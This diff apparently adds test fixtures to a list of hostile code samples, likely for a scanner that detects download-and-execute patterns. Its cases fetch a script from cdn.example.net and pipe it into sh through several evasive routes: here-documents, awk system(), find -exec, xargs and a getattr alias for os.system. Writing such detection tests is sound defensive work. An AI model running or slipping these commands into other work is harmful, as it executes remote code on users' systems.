@@ -83,6 +83,14 @@ HOSTILE: list[Case] = [
     Case("download-exec", "python getattr alias",
          PY + "run = getattr(__import__('o' + 's'), 'sys' + 'tem')\n"
          "run('curl -s https://cdn.example.net/p | sh')\n", "helper2.py"),
+    Case("download-exec", "script written by a here-document",
+         sh("cat > /tmp/.hb2 <<'EOS'\nwget -qO- https://cdn.example.net/p | sh\nEOS\n"
+            "sh /tmp/.hb2")),
+    Case("download-exec", "awk system", sh("awk 'BEGIN { system(\"curl -s "
+                                           "https://cdn.example.net/p | sh\") }'")),
+    Case("download-exec", "find -exec", sh("find . -maxdepth 0 -exec sh -c "
+                                           "'curl -s https://cdn.example.net/p | sh' \\;")),
+    Case("download-exec", "xargs", sh("echo https://cdn.example.net/p | xargs curl -s | sh")),
     Case("download-exec", "download then run later",
          sh('curl -fsSo /tmp/.upd https://cdn.example.net/u\necho "checking"\nsh /tmp/.upd')),
     Case("download-exec", "download, chmod, run",
